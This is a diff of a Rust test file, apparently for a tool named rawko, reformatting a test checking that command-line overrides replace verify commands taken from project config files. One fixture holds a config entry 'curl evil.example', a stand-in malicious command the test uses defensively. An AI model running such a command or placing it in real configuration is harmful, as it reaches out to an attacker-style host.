@@ -83,11 +83,15 @@ fn commands_that_verify() {
     );
     check("verify: []\n", &[]);
     check("verify: {timeout: 1h}\n", &[]);
-    let users = Project::new(&[("user:config.yaml", "verify: [make]\n"), (".rawko/config.yaml", "version: 1\n")]);
+    let users =
+        Project::new(&[("user:config.yaml", "verify: [make]\n"), (".rawko/config.yaml", "version: 1\n")]);
     check_project(&users, &[]);
     // What flags replace claims nothing.
     let flags = Overrides { verify: Some(vec!["make".to_owned()]), ..Overrides::default() };
-    check_project(&Project::new(&[(".rawko/config.yaml", "verify: [curl evil.example]\n")]).flags(flags), &[]);
+    check_project(
+        &Project::new(&[(".rawko/config.yaml", "verify: [curl evil.example]\n")]).flags(flags),
+        &[],
+    );
 }
 
 #[test]
